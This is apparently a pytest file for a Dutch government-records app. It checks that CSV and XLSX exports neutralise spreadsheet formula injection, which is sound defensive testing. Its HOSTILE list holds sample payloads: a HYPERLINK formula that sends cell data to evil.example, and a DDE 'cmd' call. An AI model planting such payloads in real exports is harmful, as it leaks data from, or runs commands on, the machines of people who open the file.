"""Spreadsheet-safe exports (OWASP CSV injection): the shared helper, and each export that uses it."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timezone

from openpyxl import Workbook, load_workbook

from woo import exports
from woo.archive import verklaring

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
HARMLESS = ["Besluit op Woo-verzoek", "2024-03-01", "'al tekst", " =met spatie", ""]


def test_safe_cell_neutralises_every_formula_start_and_nothing_else():
    for value in HOSTILE:
        assert exports.safe_cell(value) == "'" + value
    for value in HARMLESS:
        assert exports.safe_cell(value) == value
    for value in (None, 5, -3, 2.5, date(2024, 1, 1)):  # numbers and dates are not text: left alone
        assert exports.safe_cell(value) == value


def test_csv_writers_neutralise_every_cell():
    buf = io.StringIO()
    exports.CsvWriter(buf).writerows([HOSTILE, HARMLESS])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0] == ["'" + v for v in HOSTILE] and rows[1] == HARMLESS

    buf = io.StringIO()
    w = exports.CsvDictWriter(buf, ["a", "b"])
    w.writeheader()
    w.writerow({"a": HOSTILE[0], "b": HARMLESS[0]})
    assert list(csv.DictReader(io.StringIO(buf.getvalue()))) == [{"a": "'" + HOSTILE[0], "b": HARMLESS[0]}]


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_cells_are_strings_never_formulas(tmp_path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(exports.xlsx_row(ws, HOSTILE + ["regel\x00met\x07stuurteken", 42]))
    wb.save(tmp_path / "x.xlsx")
    xml = _sheet_xml(tmp_path / "x.xlsx")
    assert "<f>" not in xml and "<f " not in xml
    cells = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.value for c in cells[:len(HOSTILE)]] == ["'" + v for v in HOSTILE]
    assert all(c.data_type == "s" for c in cells[:-1])
    assert cells[-2].value == "regel\ufffdmet\ufffdstuurteken"  # an export never fails on a control character
    assert cells[-1].value == 42 and cells[-1].data_type == "n"


def test_verklaring_csv_neutralises_titles():
    data = verklaring.build_csv([{"document_id": "abc", "titel": HOSTILE[0], "resultaat": "6.1",
                                  "vernietigd_op": datetime(2025, 1, 1, tzinfo=timezone.utc).isoformat()}])
    row = next(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert row["titel"] == "'" + HOSTILE[0] and row["resultaat"] == "6.1"
